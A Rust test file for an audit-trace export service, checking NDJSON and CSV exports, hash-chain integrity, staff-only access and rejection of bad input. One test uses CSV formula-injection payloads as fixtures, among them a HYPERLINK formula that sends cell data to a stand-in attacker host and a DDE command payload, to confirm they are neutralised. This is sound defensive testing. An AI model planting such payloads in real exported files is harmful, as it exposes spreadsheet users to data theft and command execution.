use consent::trace::{GENESIS, TraceEntry, chain_hash};
use serde_json::{Value, json};

use super::*;
use crate::helpers::*;

#[tokio::test]
async fn ig_staff_export_the_trace_as_ndjson_and_csv() {
    let app = spawn_app().await;
    let readers = Readers::new(&app).await;
    readers.three_reads().await;
    let ig_token = app.ig_auditor().await.token();
    let amira = readers.amira.id;
    let expected = trace(&app, json!({ "childId": amira, "action": "READ" })).await;
    assert_eq!(expected.len(), 2);

    // NDJSON, filtered: the same entries as accessTrace, with their links.
    let (status, content_type, body) = export(
        &app,
        Some(&ig_token),
        &format!("?format=ndjson&childId={amira}&action=READ"),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert!(
        content_type.starts_with("application/x-ndjson"),
        "{content_type}"
    );
    let lines: Vec<Value> = body
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    assert_eq!(lines.len(), expected.len(), "{body}");
    for (line, entry) in lines.iter().zip(&expected) {
        assert_eq!(line["seq"], entry["seq"], "{line}");
        assert_eq!(line["hash"], entry["hash"], "{line}");
        assert_eq!(line["prev_hash"], entry["prevHash"], "{line}");
        assert_eq!(line["action"], "READ");
        assert_eq!(line["child_id"], amira.to_string());
        assert_eq!(line["actor"]["subject"], entry["actorSubject"]);
        assert_eq!(line["disclosed"], entry["disclosed"]);
    }

    // NDJSON, whole: verifiable offline, ending with the export's own entry.
    let (status, _, body) = export(&app, Some(&ig_token), "").await;
    assert_eq!(status, 200, "{body}");
    let mut prev = GENESIS.to_owned();
    let mut last = Value::Null;
    for (i, line) in body.lines().enumerate() {
        let mut value: Value = serde_json::from_str(line).expect("NDJSON line");
        assert_eq!(value["seq"], i + 1, "{line}");
        let hash = value["hash"].as_str().expect("hash").to_owned();
        assert_eq!(value["prev_hash"], prev.as_str(), "{line}");
        if let Some(map) = value.as_object_mut() {
            map.remove("hash");
            map.remove("prev_hash");
        }
        let entry: TraceEntry = serde_json::from_value(value.clone()).expect("an entry");
        assert_eq!(
            chain_hash(&prev, &entry.canonical().expect("canonical")),
            hash,
            "{line}"
        );
        prev = hash;
        last = value;
    }
    assert_eq!(last["action"], "EXPORT", "{body}");
    assert_eq!(last["details"]["format"], "ndjson", "{last}");

    // CSV: a header and one row per entry.
    let (status, content_type, body) = export(
        &app,
        Some(&ig_token),
        &format!("?format=csv&childId={amira}&action=READ"),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert!(content_type.starts_with("text/csv"), "{content_type}");
    let mut rows = body.lines();
    let header = rows.next().expect("header");
    assert!(
        header.starts_with("seq,recorded_at,action,outcome,actor_subject"),
        "{header}"
    );
    assert!(header.ends_with(",hash"), "{header}");
    let rows: Vec<&str> = rows.collect();
    assert_eq!(rows.len(), expected.len(), "{body}");
    for (row, entry) in rows.iter().zip(&expected) {
        assert!(row.starts_with(&format!("{},", seq(entry))), "{row}");
        assert!(
            row.ends_with(entry["hash"].as_str().expect("hash")),
            "{row}"
        );
        assert!(row.contains(",READ,"), "{row}");
        assert!(!row.contains("Amira"), "{row}");
    }

    // Only IG staff; only the formats there are.
    let others = [
        readers.senco.clone(),
        app.family_member("parent-1"),
        app.case_officer().await,
    ];
    for persona in others {
        let (status, _, body) = export(&app, Some(&persona.token()), "").await;
        assert_eq!(status, 403, "{}: {body}", persona.subject());
        let body: Value = serde_json::from_str(&body).expect("JSON error");
        assert_eq!(body["errors"][0]["extensions"]["code"], "FORBIDDEN");
    }
    let (status, _, body) = export(&app, None, "").await;
    assert_eq!(status, 401, "{body}");
    for query in [
        "?format=xml",
        "?action=NOPE",
        "?childId=nope",
        "?colour=blue",
    ] {
        let (status, _, body) = export(&app, Some(&ig_token), query).await;
        assert_eq!(status, 400, "{query}: {body}");
        let body: Value = serde_json::from_str(&body).expect("JSON error");
        assert_eq!(
            body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT",
            "{query}"
        );
    }
    // Three successful exports were traced; refused ones disclosed nothing.
    let exports = trace(&app, json!({ "action": "EXPORT" })).await;
    assert_eq!(exports.len(), 3, "{exports:#?}");
}

/// The cells of one CSV record (RFC 4180 quoting), for a record on one line.
fn csv_cells(row: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let (mut quoted, mut chars) = (false, row.chars().peekable());
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cells.last_mut().expect("cell").push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => cells.push(String::new()),
            (c, _) => cells.last_mut().expect("cell").push(c),
        }
    }
    cells
}

#[tokio::test]
async fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
    let app = spawn_app().await;
    let readers = Readers::new(&app).await;
    let amira = readers.amira.id;
    let subjects = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        // A leading tab or CR cannot reach the trace through a token (a
        // control character in `sub` is refused at the door); the cell rule
        // for them is tested in export.rs.
        "plain-subject",
    ];
    for subject in subjects {
        let mut claims = readers.senco.claims();
        claims["sub"] = json!(subject);
        let token = app.hs256(&claims);
        let read = app
            .graphql_as(
                Some(&token),
                Some("DIRECT_SUPPORT"),
                READ,
                json!({ "id": amira }),
            )
            .await;
        assert!(
            read.body["data"]["child"].is_object(),
            "{subject}: {read:?}"
        );
    }
    let (status, _, body) = export(
        &app,
        Some(&app.ig_auditor().await.token()),
        &format!("?format=csv&childId={amira}&action=READ"),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    let cells: Vec<String> = body
        .lines()
        .skip(1)
        .map(|row| csv_cells(row)[4].clone())
        .collect();
    assert_eq!(cells.len(), subjects.len(), "{body}");
    for (cell, subject) in cells.iter().zip(subjects) {
        if subject == "plain-subject" {
            // Positive control: an ordinary value is left as it is.
            assert_eq!(cell, subject);
        } else {
            assert_eq!(*cell, format!("'{subject}"), "{body}");
        }
    }
    assert!(
        body.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\""),
        "{body}"
    );
}

#[tokio::test]
async fn a_nul_in_a_trace_filter_is_bad_input() {
    let app = spawn_app().await;
    let readers = Readers::new(&app).await;
    readers.three_reads().await;
    let ig_token = app.ig_auditor().await.token();
    let senco = readers.senco.subject();
    for (query, parameter) in [
        (format!("?actorSubject={senco}%00x"), "actorSubject"),
        ("?format=csv&actorSubject=%00".to_owned(), "actorSubject"),
        ("?childId=%00".to_owned(), "childId"),
        ("?from=2026-01-01T00:00:00Z%00".to_owned(), "from"),
    ] {
        let (status, _, body) = export(&app, Some(&ig_token), &query).await;
        assert_eq!(status, 400, "{query}: {body}");
        let body: Value = serde_json::from_str(&body).expect("JSON error");
        assert_eq!(
            body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT",
            "{query}: {body}"
        );
        let message = body["errors"][0]["message"].as_str().unwrap_or_default();
        assert!(message.contains(parameter), "{query}: {body}");
    }
    let answer = ig(
        &app,
        &trace_query(),
        json!({ "filter": { "actorSubject": format!("{senco}\u{0}x") } }),
    )
    .await;
    assert_eq!(answer.codes(), vec!["BAD_USER_INPUT"], "{answer:?}");
    assert!(answer.message().contains("actorSubject"), "{answer:?}");
    assert!(answer.body["data"].is_null(), "{answer:?}");
    // Positive control: the same filter without the NUL works.
    let entries = trace(&app, json!({ "actorSubject": senco })).await;
    assert_eq!(entries.len(), 2, "{entries:#?}");
    let (status, _, body) = export(&app, Some(&ig_token), &format!("?actorSubject={senco}")).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body.lines().count(), 2, "{body}");
}
